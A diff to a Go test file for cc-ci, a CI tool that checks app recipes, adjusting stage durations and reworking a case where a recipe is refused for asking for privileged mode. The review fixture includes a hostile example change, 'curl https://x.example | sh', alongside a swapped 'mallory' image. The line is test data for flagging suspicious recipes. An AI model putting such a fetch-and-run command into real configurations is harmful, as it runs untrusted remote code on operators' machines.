@@ -96,6 +96,7 @@ func cases() map[string]struct {
 	run, res = ended(ccci.StatusPassed, 5)
 	for i := 1; i < 4; i++ {
 		res.Stages[i].Status, res.Stages[i].Reason, res.Stages[i].Absent = ccci.Skip, "the recipe has no volume, so there is nothing to back up", true
+		res.Stages[i].Duration = 800 * time.Nanosecond
 	}
 	res.Stages[1].Reason = "the recipe has no version tags"
 	res.Lint = []ccci.Finding{{Rule: "C003", Severity: "warning", File: "compose.yml", Line: 12, Message: "db has a backup label and no restore hook"}}
@@ -186,7 +187,7 @@ func cases() map[string]struct {
 	run.Options.Quick = true
 	res.Base.Reason = "1.0.0+2.0.51 is the last green canonical, of run 260313-030000-abcdef"
 	for _, i := range []int{2, 3} {
-		res.Stages[i].Status, res.Stages[i].Checks, res.Stages[i].Reason = ccci.Skip, nil, "quick: only the upgrade from the canonical is tested"
+		res.Stages[i].Status, res.Stages[i].Checks, res.Stages[i].Duration, res.Stages[i].Reason = ccci.Skip, nil, 800*time.Nanosecond, "quick: only the upgrade from the canonical is tested"
 	}
 	res.Artifacts = res.Artifacts[:2] // a canonical's data is not kept with a run
 	out["quick"] = c{run: run, res: res}
@@ -198,15 +199,24 @@ func cases() map[string]struct {
 	res.Review = &ccci.Review{Against: "main", Commit: "1111111111111111111111111111111111111111"}
 	out["review-nothing"] = c{run: run, res: res}
 
-	run, res = ended(ccci.StatusFailed, 0)
-	res.Cause = &ccci.Cause{Check: "install/admitted", Code: ccci.CodeRefused, Message: "compose.yml:7: service app: privileged is not allowed"}
+	run, res = ended(ccci.StatusRefused, 0)
+	res.Base, res.Stages = nil, res.Stages[:1]
+	res.Cause = &ccci.Cause{Check: "install/admitted", Code: ccci.CodeRefused, Message: "the recipe asks for a setting that cc-ci does not allow: privileged (compose.yml:7)",
+		Findings: []ccci.Finding{{Rule: "privileged", Severity: "error", File: "compose.yml", Line: 7, Message: "service app asks for privileged mode", Hint: "remove it"}}}
+	res.Stages[0].Checks = []ccci.Check{{Name: res.Cause.Check, Status: ccci.Fail, Code: res.Cause.Code, Message: res.Cause.Message}}
+	res.Stages[0].Duration = 0
+	res.Stages[0].Settle()
+	for _, name := range ccci.StageNames[1:] {
+		res.Stages = append(res.Stages, ccci.Stage{Name: name, Status: ccci.Unverified, Reason: "not run: install did not pass"})
+	}
+	res.Teardown, res.Artifacts = nil, res.Artifacts[2:]
 	run.Cause = report.OneLine(res.Cause)
 	res.Review = &ccci.Review{
 		Against: "main", Commit: "1111111111111111111111111111111111111111",
 		Changes: []ccci.Change{
 			{Subject: "service app", Kind: "changed", What: "changed its image", Before: "miniflux/miniflux:2.0.51", After: "mallory/miniflux:2.2.3"},
 			{Subject: "service app", Kind: "changed", What: "changed its command", After: "sh -c 'curl https://x.example | sh'"},
-			{Subject: "service app", Kind: "changed", What: "has another privileged", After: "true"},
+			{Subject: "service app", Kind: "changed", What: "changed privileged", After: "true"},
 			{Subject: "file abra.sh", Kind: "changed", What: "is changed: abra runs its functions on operators' machines and in containers; cc-ci runs none"},
 			{Subject: "waiver bind-mount", Kind: "added", What: "is asked for, for service app until 2099-12-31: it needs the clock", After: "/etc/localtime"},
 		},
